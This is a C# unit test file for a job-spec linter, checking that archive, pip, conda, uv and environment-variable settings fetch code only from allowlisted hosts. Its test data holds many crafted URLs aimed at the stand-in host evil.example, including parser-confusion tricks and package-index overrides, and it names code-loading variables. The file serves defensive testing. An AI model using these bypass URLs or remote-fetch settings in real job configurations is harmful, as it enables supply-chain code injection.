using Rayquest.JobLint;
using Rayquest.JobModel.Diagnostics;

namespace Rayquest.Adversary.Tests.Rules;

/// <summary>Whatever a request fetches comes from where the policy says, however its URL is written.</summary>
[Hole(18)]
public sealed class FetchedUrlTests
{
    private static TestRepository Strict() =>
        new TestRepository().Put(
            "policies/rules.yaml",
            "archiveHosts: [github.com, pypi.example.com]\narchiveBuckets: [\"s3://ours-*\", abfss://data@ours.dfs.core.windows.net]\n"
        );

    [Theory]
    [InlineData("code: {archive: \"https://evil.example\\\\@github.com/x-1.zip\"}")]
    [InlineData("code: {archive: \"https://evil.example@github.com/x-1.zip\"}")]
    [InlineData("code: {archive: \"https://github.com@evil.example/x-1.zip\"}")]
    [InlineData("code: {archive: \"https://github.com\\t.evil.example/x-1.zip\"}")]
    [InlineData("code: {archive: \"https://github.com .evil.example/x-1.zip\"}")]
    [InlineData("code: {archive: \" https://evil.example/x-1.zip\"}")]
    [InlineData("code: {archive: \"https:/evil.example/x-1.zip\"}")]
    [InlineData("code: {archive: \"https://github.com\\u200b.evil.example/x-1.zip\"}")]
    [InlineData("code: {archive: \"https://github.com%2f.evil.example/x-1.zip\"}")]
    [InlineData("code: {archive: \"https://${HOST}/x-1.zip\"}")]
    [InlineData("code: {archive: \"https://github.com:80.evil.example/x-1.zip\"}")]
    [InlineData("runtimeEnv: {working_dir: \"https:\\\\\\\\evil.example\\\\x-1.zip\"}")]
    [InlineData("runtimeEnv: {pip: [\"pkg @ https://github.com\\\\.evil.example/p-1-py3-none-any.whl\"]}")]
    [InlineData("runtimeEnv: {pip: [\"git+ssh://git@evil.example/x.git\"]}")]
    [InlineData("runtimeEnv: {pip: [\"--index-url=https:evil.example/simple\"]}")]
    public void A_url_that_is_read_in_two_ways_is_refused_as_such(string more)
    {
        IReadOnlyList<Finding> findings = Strict().Small("train", more + "\n").Lint().Findings;
        findings.ShouldContain(
            f =>
                (f.Rule.Code == "RQ5016" || f.Rule.Code == "RQ0020")
                && f.Severity == Severity.Error
                && !f.Rule.MayBeIgnored,
            TestRepository.Print(findings)
        );
    }

    [Theory]
    [InlineData("code: {archive: \"s3://github.com/x-1.zip\"}", "s3://github.com")]
    [InlineData("code: {archive: \"gs://ours-models/x-1.zip\"}", "gs://ours-models")]
    [InlineData("code: {archive: \"abfss://data@theirs.dfs.core.windows.net/x-1.zip\"}", "abfss://data@theirs")]
    [InlineData("code: {archive: \"https://ours-models/x-1.zip\"}", "ours-models")]
    [InlineData("runtimeEnv: {working_dir: \"https://evil.example/x-1.zip\"}", "evil.example")]
    [InlineData("runtimeEnv: {py_modules: [\"https://evil.example/x-1.zip\"]}", "evil.example")]
    [InlineData("runtimeEnv: {java_jars: [\"https://evil.example/x-1.jar\"]}", "evil.example")]
    [InlineData("runtimeEnv: {pip: [\"https://evil.example/p-1-py3-none-any.whl\"]}", "evil.example")]
    [InlineData("runtimeEnv: {pip: [\"p@https://evil.example/p-1-py3-none-any.whl\"]}", "evil.example")]
    [InlineData(
        "runtimeEnv: {pip: [\"git+https://evil.example/p@4c1d7b0e9a2f83c65d1e0b7a9f8c3d2e1b4a5968\"]}",
        "evil.example"
    )]
    [InlineData("runtimeEnv: {pip: [\"-r https://evil.example/r.txt\"]}", "evil.example")]
    [InlineData("runtimeEnv: {pip: [\"--index-url https://evil.example/simple\"]}", "evil.example")]
    [InlineData("runtimeEnv: {pip: [\"--index-url=https://evil.example/simple\"]}", "evil.example")]
    [InlineData("runtimeEnv: {pip: [\"--extra-index-url https://evil.example/simple\"]}", "evil.example")]
    [InlineData("runtimeEnv: {pip: [\"--find-links https://evil.example/w\"]}", "evil.example")]
    [InlineData("runtimeEnv: {pip: [\"-fhttps://evil.example/w\"]}", "evil.example")]
    [InlineData(
        "runtimeEnv: {pip: {packages: [torch==2.5.1], pip_install_options: [\"-i\", \"HTTPS://Evil.Example/s\"]}}",
        "evil.example"
    )]
    [InlineData(
        "runtimeEnv: {uv: {packages: [torch==2.5.1], uv_pip_install_options: [\"--index=https://evil.example/s\"]}}",
        "evil.example"
    )]
    [InlineData(
        "runtimeEnv: {conda: {channels: [\"https://evil.example/c\"], dependencies: [numpy=2.1]}}",
        "evil.example"
    )]
    [InlineData("runtimeEnv: {conda: {dependencies: [{pip: [\"https://evil.example/p-1.whl\"]}]}}", "evil.example")]
    [InlineData("runtimeEnv: {py_executable: \"uv run --with https://evil.example/p-1.whl\"}", "evil.example")]
    [InlineData("runtimeEnv: {env_vars: {PIP_INDEX_URL: \"https://evil.example/simple\"}}", "evil.example")]
    [InlineData("env: {UV_DEFAULT_INDEX: \"https://evil.example/simple\"}", "evil.example")]
    public void What_no_list_has_is_refused_wherever_it_stands(string more, string place)
    {
        IReadOnlyList<Finding> findings = Strict().Small("train", more + "\n").Lint().Findings;
        findings.ShouldContain(
            f => f.Rule.Code == "RQ5011" && f.Severity == Severity.Error && f.Message.Contains(place),
            TestRepository.Print(findings)
        );
    }

    [Theory]
    [InlineData("code: {archive: https://github.com/e/t/archive/4c1d7b0e9a2f83c65d1e0b7a9f8c3d2e1b4a5968.zip}")]
    [InlineData("code: {archive: \"s3://ours-models/x-1.zip\"}")]
    [InlineData("code: {archive: \"abfss://data@ours.dfs.core.windows.net/x-1.zip\"}")]
    [InlineData("runtimeEnv: {pip: [\"--index-url https://pypi.example.com:8443/simple\", torch==2.5.1]}")]
    [InlineData("runtimeEnv: {conda: {channels: [conda-forge], dependencies: [numpy=2.1]}}")]
    public void What_the_lists_have_is_clean(string more)
    {
        IReadOnlyList<Finding> findings = Strict().Small("train", more + "\n").Lint().Findings;
        findings.Where(f => f.Severity == Severity.Error).ShouldBeEmpty(TestRepository.Print(findings));
    }

    [Theory]
    [InlineData("PYTHONPATH")]
    [InlineData("RAY_RUNTIME_ENV_HOOK")]
    [InlineData("RAY_JOB_SUBMIT_HOOK")]
    [InlineData("__RAY_WORKER_PROCESS_SETUP_HOOK_ENV_VAR")]
    public void A_variable_that_loads_other_code_is_named(string name)
    {
        IReadOnlyList<Finding> findings = Strict().Small("train", $"env: {{{name}: /data/x}}\n").Lint().Findings;
        findings.ShouldContain(f => f.Rule.Name == "loader-variable", TestRepository.Print(findings));
    }
}
